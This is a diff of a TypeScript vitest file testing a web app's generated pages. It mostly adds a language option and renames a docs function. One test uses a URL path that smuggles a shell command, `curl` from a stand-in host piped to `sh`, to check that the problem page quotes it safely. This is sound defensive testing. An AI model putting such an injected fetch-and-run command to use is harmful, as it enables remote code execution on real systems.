@@ -3,12 +3,13 @@ import { REPORT_STYLE } from '@headwater/accuracy/report';
 import { expect, test } from 'vitest';
 import { generateOpenApi } from '../openapi/generate.ts';
 import { buildOperations } from '../features/index.ts';
-import { docsPage } from '../features/system/page/docs-page.ts';
+import { docsContent } from '../features/system/page/docs-page.ts';
 import { openInQgis } from '../features/stac-api/page/item-files.ts';
 import { firstPage, type FirstPageFacts } from '../features/discovery/page/first-page.ts';
 import { computationsPage } from '../features/discovery/page/computations-page.ts';
 import { PAGE_HEADERS, SCRIPT_HEADERS } from './layout.ts';
 import { markdown } from './markdown.ts';
+import { sayIn } from './texts.ts';
 import { problemPage } from './problem-page.ts';
 import { tablePage } from '../features/public-data/page/table-page.ts';
 import { typeText } from '../features/system/page/docs-lists.ts';
@@ -105,6 +106,7 @@ test('the headline names no layer', async () => {
 
 test('the problem page shows the message, escaped, with links to other pages', () => {
   const problem = {
+    shell: { language: 'en' as const },
     title: 'Unauthorized',
     message: EVIL,
     requestId: EVIL,
@@ -120,7 +122,8 @@ test('the problem page shows the message, escaped, with links to other pages', (
 
 test('the command of the problem page quotes the requested address as one shell word', () => {
   const path = "/api/v1/runs/;curl$IFS'evil.example'|sh;/";
-  const page = problemPage({ title: 'T', message: 'm', requestId: 'r', baseUrl: 'http://h', path, status: 401 });
+  const shell = { language: 'en' as const };
+  const page = problemPage({ shell, title: 'T', message: 'm', requestId: 'r', baseUrl: 'http://h', path, status: 401 });
   const line = page
     .replaceAll('&#39;', "'")
     .split('\n')
@@ -138,7 +141,7 @@ test('the QGIS instructions depend on the format: a raster is read in parts, a G
     latest: 'http://h/latest/x',
   };
   const shown = async (layer: 'raster' | 'vector') =>
-    String(await openInQgis([{ ...file, name: 'x', bytes: 1, isMain: true, layer }]));
+    String(await openInQgis([{ ...file, name: 'x', bytes: 1, isMain: true, layer }], sayIn('en')));
   expect(await shown('raster')).toContain('only the parts that are visible.');
   expect(await shown('vector')).toContain('the whole file each time you open it.');
   expect(await shown('vector')).not.toContain('parts');
@@ -169,7 +172,7 @@ test('pages allow exactly their own styles and, if they have one, their own scri
 
 test('the reference shows every operation of the document, and every schema link has a target', async () => {
   const document = generateOpenApi(buildOperations([samplePipeline]), '1');
-  const page = String(await docsPage(document, { baseUrl: 'http://localhost' }));
+  const page = String(await docsContent(document, { baseUrl: 'http://localhost' }));
   for (const row of buildOperations([samplePipeline])) expect(page).toContain(`id="${row.id}"`);
   const links = [...page.matchAll(/href="#([^"]+)"/g)].map(([, id]) => id);
   for (const id of links) expect(page).toContain(`id="${id}"`);
@@ -187,6 +190,7 @@ test('a table shows its first rows and its columns, and scripts in it do not run
   const column = { name: 'area', unit: 'ha', description: EVIL, isNumber: true };
   const page = String(
     await tablePage({
+      shell: { language: 'en' },
       prefix: '',
       name: 'sheet',
       above: [{ title: EVIL, href: '/' }],
